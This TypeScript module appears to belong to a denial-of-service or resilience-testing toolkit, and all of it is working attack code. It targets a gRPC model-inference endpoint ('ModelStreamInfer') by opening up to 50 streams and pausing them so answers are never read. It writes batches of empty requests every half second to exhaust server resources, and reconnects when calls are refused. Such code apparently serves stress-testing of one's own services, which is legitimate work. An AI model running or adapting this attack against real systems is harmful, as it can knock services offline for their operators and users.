// gRPC streams that send 20 requests per second and never read an answer: 50 over one connection, five more per second.
import { type Attack, turns } from '../attack';
import { messageHead, openCall, openSession } from '../grpc-connections';

/** Requests without a network, each of which gets an error message. */
const requests = Buffer.concat(Array(10).fill(messageHead(0)));

export const attack: Attack = (target, tally) => async (signal) => {
  let session = openSession(target, tally);
  let calls = 0;
  for await (const _ of turns(5, signal)) {
    if (calls >= 50) continue;
    const call = openCall(session, tally, target.token, 'ModelStreamInfer')?.pause();
    if (call === undefined) session = openSession(target, tally);
    else {
      calls++;
      const timer = setInterval(() => call.write(requests), 500);
      call.on('close', () => {
        calls--;
        clearInterval(timer);
      });
    }
  }
};
